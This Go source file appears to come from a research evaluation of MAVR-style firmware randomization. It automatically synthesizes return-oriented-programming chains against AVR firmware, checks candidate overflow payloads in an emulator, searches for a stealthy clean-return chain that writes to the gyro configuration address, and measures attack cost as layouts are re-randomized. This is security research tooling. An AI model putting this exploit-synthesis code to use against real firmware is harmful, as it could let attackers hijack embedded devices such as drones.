package attack

import (
	"errors"
	"math/rand"
	"sort"

	"mavr/internal/avr"
	"mavr/internal/core"
	"mavr/internal/detrand"
	"mavr/internal/elfobj"
	"mavr/internal/firmware"
	"mavr/internal/gadget"
)

// Chain synthesis searches for the gadgets that BuildV1/V2/V3 take from
// the canonical Fig. 4/5 matches: enumerate every pivot-, store- and
// loader-shaped entry point in the binary (gadget.PivotShapes/
// StoreRuns/PopChains — the canonical gadgets plus the generalized
// shapes of the RISC-V ROP catalogue), compose candidate chains over
// them with the same builders (chain.go), and validate each candidate
// by firing it at an emulated copy of the victim. The search is
// coverage-guided in two phases, using the emulator as the oracle:
//
//  1. landing — find a writer (loader+store composition) whose chain
//     gets the marker write into data space at all, crash tolerated;
//  2. stealth — keep the landed writer (the feedback from phase 1) and
//     search pivot shapes for a clean-return chain: frame repaired,
//     no fault, firmware still draining its UART afterwards.
//
// Everything is deterministic: candidate order is a pure function of
// the image and the options' Seed, and the emulator is cycle-exact.

// SynthOptions tunes a synthesis run.
type SynthOptions struct {
	// Stealth also runs phase 2 (clean-return search) after a landing
	// chain is found.
	Stealth bool
	// MaxAttempts bounds the total number of emulator trials (default
	// 64). Each trial boots a fresh copy of the target.
	MaxAttempts int
	// Seed orders equally-ranked candidates (deterministic per seed).
	Seed int64
	// Write is the target write the synthesized payload performs; the
	// zero value defaults to a 3-byte marker at the gyro config address.
	Write Write
}

// synthMarker is the write a search lands when none is requested: a
// 3-byte marker at the gyro config address.
var synthMarker = Write{Addr: firmware.AddrGyroCfg, Vals: [3]byte{0x5A, 0xA5, 0x3C}}

func (o SynthOptions) withDefaults() SynthOptions {
	if o.MaxAttempts == 0 {
		o.MaxAttempts = 64
	}
	if o.Write.Addr == 0 {
		o.Write = synthMarker
	}
	return o
}

// SynthAttempt is one emulator trial in the search log.
type SynthAttempt struct {
	// Phase is "landing" or "stealth".
	Phase string `json:"phase"`
	// Pivot is the pivot entry word address (stealth only).
	Pivot uint32 `json:"pivot,omitempty"`
	// Load and Store are the trialed writer's entry addresses.
	Load  uint32 `json:"load"`
	Store uint32 `json:"store"`
	// Outcome is "landed-clean", "landed-crash", "crashed", "no-effect"
	// or "unbuildable" (the candidate does not fit the frame).
	Outcome string `json:"outcome"`
}

// Synthesis is the result of a chain-synthesis search.
type Synthesis struct {
	// GadgetCount, PivotShapes and WriterShapes size the search space.
	GadgetCount  int `json:"gadgetCount"`
	PivotShapes  int `json:"pivotShapes"`
	WriterShapes int `json:"writerShapes"`
	// Attempts is the number of emulator trials spent.
	Attempts int `json:"attempts"`
	// Found reports a chain that performed the write (possibly crashing
	// afterwards, V1-grade); Stealthy reports a clean-return chain
	// (V2-grade).
	Found    bool `json:"found"`
	Stealthy bool `json:"stealthy"`
	// Writer and Pivot are the winning shapes (Pivot nil for V1-grade).
	Writer *WriterShape    `json:"writer,omitempty"`
	Pivot  *gadget.StkMove `json:"pivot,omitempty"`
	// Payload is the winning overflow payload for the requested write.
	Payload []byte `json:"-"`
	// Log records every trial in order.
	Log []SynthAttempt `json:"log,omitempty"`

	frame *Analysis
}

// Synthesis errors.
var (
	ErrNoWriterShapes = errors.New("attack: no write-shaped gadget candidates in image")
	ErrPivotUnsaved   = errors.New("attack: pivot registers are not saved by the handler")
)

// Synthesize searches for a working chain against the attacker's own
// copy of the binary (the paper's threat model: the stock image is
// public).
func Synthesize(elf *elfobj.File, opts SynthOptions) (*Synthesis, error) {
	return SynthesizeAgainst(elf, elf.Text, opts)
}

// SynthesizeAgainst runs the same search but validates candidates
// against a different target image — the stale-knowledge experiment:
// shapes and geometry come from the base binary the attacker analyzed,
// probes run against the (possibly re-randomized) victim.
func SynthesizeAgainst(elf *elfobj.File, target []byte, opts SynthOptions) (*Synthesis, error) {
	opts = opts.withDefaults()
	frame, err := AnalyzeFrame(elf)
	if err != nil {
		return nil, err
	}
	gs := gadget.Scan(elf.Text, gadget.Window)
	pivots := gadget.PivotShapes(gs)
	writers := writerCandidates(gs)
	orderWriters(writers, opts.Seed)
	s := &Synthesis{
		GadgetCount:  len(gs),
		PivotShapes:  len(pivots),
		WriterShapes: len(writers),
		frame:        frame,
	}
	if len(writers) == 0 {
		return s, ErrNoWriterShapes
	}
	sim, err := NewSim(target)
	if err != nil {
		return nil, err
	}

	// Phase 1: landing. Trial writers until one gets the marker write
	// into data space — the emulator feedback that the loader/store
	// composition works at all.
	for _, wr := range writers {
		if s.Attempts >= opts.MaxAttempts {
			break
		}
		s.Attempts++
		at := SynthAttempt{Phase: "landing", Load: wr.LoadAddr, Store: wr.StoreAddr}
		p, err := landingPayloadFor(frame, wr, opts.Write)
		if err != nil {
			at.Outcome = "unbuildable"
			s.Log = append(s.Log, at)
			continue
		}
		pr := probePayload(sim, target, p, opts.Write)
		at.Outcome = pr.outcome()
		s.Log = append(s.Log, at)
		if pr.landed {
			s.Found = true
			s.Writer = wr
			s.Payload = p
			break
		}
	}
	if !s.Found || !opts.Stealth {
		return s, nil
	}

	// Phase 2: stealth. Keep the landed writer (plus a couple of
	// alternates) and search pivot shapes for a clean return.
	wrOrder := []*WriterShape{s.Writer}
	for _, wr := range writers {
		if len(wrOrder) >= 3 {
			break
		}
		if wr != s.Writer {
			wrOrder = append(wrOrder, wr)
		}
	}
outer:
	for _, pv := range pivots {
		for _, wr := range wrOrder {
			if s.Attempts >= opts.MaxAttempts {
				break outer
			}
			s.Attempts++
			at := SynthAttempt{Phase: "stealth", Pivot: pv.Addr, Load: wr.LoadAddr, Store: wr.StoreAddr}
			p, err := stealthPayloadFor(frame, pv, wr, opts.Write)
			if err != nil {
				at.Outcome = "unbuildable"
				s.Log = append(s.Log, at)
				continue
			}
			pr := probePayload(sim, target, p, opts.Write)
			at.Outcome = pr.outcome()
			s.Log = append(s.Log, at)
			if pr.landed && pr.clean() {
				s.Stealthy = true
				s.Pivot = pv
				s.Writer = wr
				s.Payload = p
				break outer
			}
		}
	}
	return s, nil
}

// PayloadFor rebuilds the synthesized chain for a different write —
// stealthy when phase 2 succeeded, landing (V1-grade) otherwise.
func (s *Synthesis) PayloadFor(w Write) ([]byte, error) {
	if s.Writer == nil {
		return nil, ErrNoWriterShapes
	}
	if s.Stealthy {
		return stealthPayloadFor(s.frame, s.Pivot, s.Writer, w)
	}
	return landingPayloadFor(s.frame, s.Writer, w)
}

// writerCandidates composes writer shapes from a scan: fused store
// runs whose own tail reloads Y and the stored registers, and split
// compositions pairing the remaining store runs with the smallest
// covering pop-chain loader.
func writerCandidates(gs []*gadget.Gadget) []*WriterShape {
	runs := gadget.StoreRuns(gs)
	chains := gadget.PopChains(gs)
	var out []*WriterShape
	for _, r := range runs {
		if r.StoreRegs[0] == r.StoreRegs[1] || r.StoreRegs[1] == r.StoreRegs[2] || r.StoreRegs[0] == r.StoreRegs[2] {
			continue // duplicate store regs cannot carry three independent bytes
		}
		if hasReg(r.StoreRegs[:], 28) || hasReg(r.StoreRegs[:], 29) {
			continue // storing through Y from Y itself — values not independent
		}
		need := []int{28, 29, r.StoreRegs[0], r.StoreRegs[1], r.StoreRegs[2]}
		if coversAll(r.TailPops, need) {
			out = append(out, &WriterShape{
				LoadAddr: r.TailAddr, LoadPops: r.TailPops,
				StoreAddr: r.Addr, StoreRegs: r.StoreRegs, QBase: r.QBase,
				TailPops: r.TailPops, Fused: true,
			})
			continue
		}
		var best *gadget.PopChain
		for _, c := range chains {
			if c.Addr == r.TailAddr || !coversAll(c.PopRegs, need) {
				continue
			}
			if best == nil || len(c.PopRegs) < len(best.PopRegs) {
				best = c
			}
		}
		if best != nil {
			out = append(out, &WriterShape{
				LoadAddr: best.Addr, LoadPops: best.PopRegs,
				StoreAddr: r.Addr, StoreRegs: r.StoreRegs, QBase: r.QBase,
				TailPops: r.TailPops, Fused: false,
			})
		}
	}
	return out
}

// orderWriters ranks candidates: fused before split (fewer chain bytes
// and fewer assumptions), shorter loaders first, seed-mixed tiebreak.
func orderWriters(ws []*WriterShape, seed int64) {
	sort.SliceStable(ws, func(i, j int) bool {
		a, b := ws[i], ws[j]
		if a.Fused != b.Fused {
			return a.Fused
		}
		if len(a.LoadPops) != len(b.LoadPops) {
			return len(a.LoadPops) < len(b.LoadPops)
		}
		ha, hb := mix64(seed, uint64(a.StoreAddr)), mix64(seed, uint64(b.StoreAddr))
		if ha != hb {
			return ha < hb
		}
		return a.StoreAddr < b.StoreAddr
	})
}

// mix64 is the SplitMix64 finalizer over (seed, v) — the deterministic
// tiebreak that makes candidate order a pure function of the seed.
func mix64(seed int64, v uint64) uint64 {
	return detrand.Mix(uint64(seed)*detrand.Gamma + v)
}

func hasReg(s []int, r int) bool {
	for _, x := range s {
		if x == r {
			return true
		}
	}
	return false
}

func coversAll(have, need []int) bool {
	for _, n := range need {
		if !hasReg(have, n) {
			return false
		}
	}
	return true
}

// Emulator probing. A crashed candidate faults within a few hundred
// thousand cycles; the budget only bounds chains that hang the firmware
// without faulting.
const (
	synthDrainBudget  = 8_000_000
	synthSettleMargin = 300_000
)

type probeOutcome struct {
	fault   *avr.Fault
	drained bool
	landed  bool
}

func (p probeOutcome) clean() bool { return p.fault == nil && p.drained }

func (p probeOutcome) outcome() string {
	switch {
	case p.landed && p.clean():
		return "landed-clean"
	case p.landed:
		return "landed-crash"
	case p.fault != nil:
		return "crashed"
	default:
		return "no-effect"
	}
}

// probePayload boots a fresh copy of the target (Load), delivers the
// payload and classifies the outcome against the expected write.
func probePayload(sim *Sim, image, payload []byte, w Write) probeOutcome {
	var pr probeOutcome
	if err := sim.Load(image); err != nil {
		return pr
	}
	sim.SendFrame(Frame(payload))
	drained, fault := sim.CPU.RunUntil(synthDrainBudget, func(*avr.CPU) bool { return sim.RxIdle() })
	pr.drained = drained
	pr.fault = fault
	if pr.clean() {
		pr.fault = sim.RunCycles(synthSettleMargin)
	}
	pr.landed = sim.CPU.Data[w.Addr] == w.Vals[0] &&
		sim.CPU.Data[w.Addr+1] == w.Vals[1] &&
		sim.CPU.Data[w.Addr+2] == w.Vals[2]
	return pr
}

// CostPoint is one row of the attack-synthesis cost curve: the budget
// spent searching for a chain against the victim's layout at a given
// re-randomization epoch.
type CostPoint struct {
	// Epoch 0 is the layout the attacker analyzed; epoch e>0 is the
	// victim after e re-randomizations (stale knowledge).
	Epoch int `json:"epoch"`
	// Attempts spent (bounded by the budget).
	Attempts int `json:"attempts"`
	// Blind counts the attempts that were blind candidate probes, fired
	// after the stale shape set was exhausted without a hit.
	Blind int `json:"blind,omitempty"`
	// Found and Stealthy report the search outcome at this epoch.
	Found    bool `json:"found"`
	Stealthy bool `json:"stealthy"`
}

// SynthesisCostCurve measures synthesis cost against successive
// re-randomization epochs of app: epoch 0 probes the very binary the
// shapes were extracted from (cheap), later epochs replay the same
// stale candidate set against freshly permuted layouts — the paper's n!
// argument as a measured curve rather than a combinatorial bound.
func SynthesisCostCurve(app firmware.AppSpec, epochs, budget int, seed int64) ([]CostPoint, error) {
	img, err := firmware.Generate(app, firmware.ModeMAVR)
	if err != nil {
		return nil, err
	}
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		return nil, err
	}
	rng := rand.New(rand.NewSource(seed))
	var points []CostPoint
	for e := 0; e <= epochs; e++ {
		target := img.Flash
		if e > 0 {
			r, err := core.Randomize(pre, core.Permutation(rng, len(pre.Blocks)))
			if err != nil {
				return nil, err
			}
			target = r.Image
		}
		res, err := SynthesizeAgainst(img.ELF, target, SynthOptions{
			Stealth: true, MaxAttempts: budget, Seed: seed,
		})
		if err != nil {
			return nil, err
		}
		pt := CostPoint{Epoch: e, Attempts: res.Attempts, Found: res.Found, Stealthy: res.Stealthy}
		if !res.Found {
			// Every stale shape misfired: the attacker is reduced to blind
			// probing fresh candidate addresses — one observable crash per
			// guess against an n!-sized layout space (§VIII-A) — until the
			// budget runs out.
			blind, found, perr := blindProbes(res.frame, target, budget-pt.Attempts, seed+int64(e))
			if perr != nil {
				return nil, perr
			}
			pt.Blind = blind
			pt.Attempts += blind
			pt.Found = found
		}
		points = append(points, pt)
	}
	return points, nil
}

// blindProbes fires V1-grade probes at assumed-shape candidates drawn
// deterministically over the target's word space, reporting probes
// spent and whether one landed.
func blindProbes(frame *Analysis, target []byte, budget int, seed int64) (int, bool, error) {
	words := uint64(len(target) / 2)
	var candidates []uint32
	for i := 1; i <= budget; i++ {
		candidates = append(candidates, uint32(mix64(seed, uint64(i))%words))
	}
	res, err := hunt(func() ([]byte, error) { return target, nil }, frame, candidates, synthMarker)
	return res.Probes, res.Found, err
}
